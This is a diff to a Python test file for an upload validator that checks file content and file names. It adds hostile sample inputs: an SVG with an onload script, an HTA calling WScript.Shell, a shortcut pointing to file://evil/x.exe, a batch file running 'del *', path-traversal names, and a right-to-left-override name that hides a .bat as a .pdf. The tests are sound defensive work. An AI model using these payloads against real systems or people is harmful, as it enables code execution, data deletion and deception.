@@ -153,6 +153,16 @@ def docx() -> bytes:
         (b"PK\x03\x04garbage", "application/zip", "archief.zip", None),
         (b"hallo\x00wereld", "text/plain", "a.txt", None),
         (b"<svg onload=alert(1)>", "image/svg+xml", "a.svg", None),
+        # Text passes as txt, but the name is what the recipient's computer opens it by.
+        (b"<svg onload=alert(1)>", "application/octet-stream", "x.svg", None),
+        (b"<svg onload=alert(1)>", "", "x.svg", None),
+        (b"<script>new ActiveXObject('WScript.Shell')</script>", "", "factuur.hta", None),
+        (b"[InternetShortcut]\r\nURL=file://evil/x.exe", "", "link.url", None),
+        (b"@echo off\r\ndel *", "", "Uitslag_fdp.bat", None),
+        (b"%PDF-1.7\n<script>...</script>", "application/octet-stream", "uitslag.hta", None),
+        (b"%PDF-1.7\n...", "application/pdf", "uitslag", None),
+        (b"%PDF-1.7\n...", "application/pdf", "uitslag.pdf.", None),
+        (b"Beste mevrouw", "text/plain", "brief.TXT", "txt"),
     ],
 )
 def test_files_are_judged_on_their_content(data: bytes, claimed: str, name: str, accepted: str | None) -> None:
@@ -162,7 +172,25 @@ def test_files_are_judged_on_their_content(data: bytes, claimed: str, name: str,
 
 
 @pytest.mark.parametrize(
-    "name", ["../../etc/passwd", "..\\boot.ini", "a/b.pdf", "..", ".htaccess", "", "  ", "a\x00.pdf", "x" * 256]
+    "name",
+    [
+        "../../etc/passwd",
+        "..\\boot.ini",
+        "a/b.pdf",
+        "..",
+        ".htaccess",
+        "",
+        "  ",
+        "a\x00.pdf",
+        "x" * 256,
+        "Uitslag_\u202efdp.bat",  # right-to-left override: shows as "Uitslag_tab.pdf"
+        "brief\u200b.pdf",  # zero-width space
+        "brief\u2028.pdf",  # line separator
+        "brief\u2029.pdf",  # paragraph separator
+        "brief\u0085.pdf",  # next line (C1 control)
+        "brief\ue000.pdf",  # private use
+        "a\tb.pdf",
+    ],
 )
 def test_file_names_with_paths_or_tricks_are_refused(name: str) -> None:
     assert check_file_name(name)
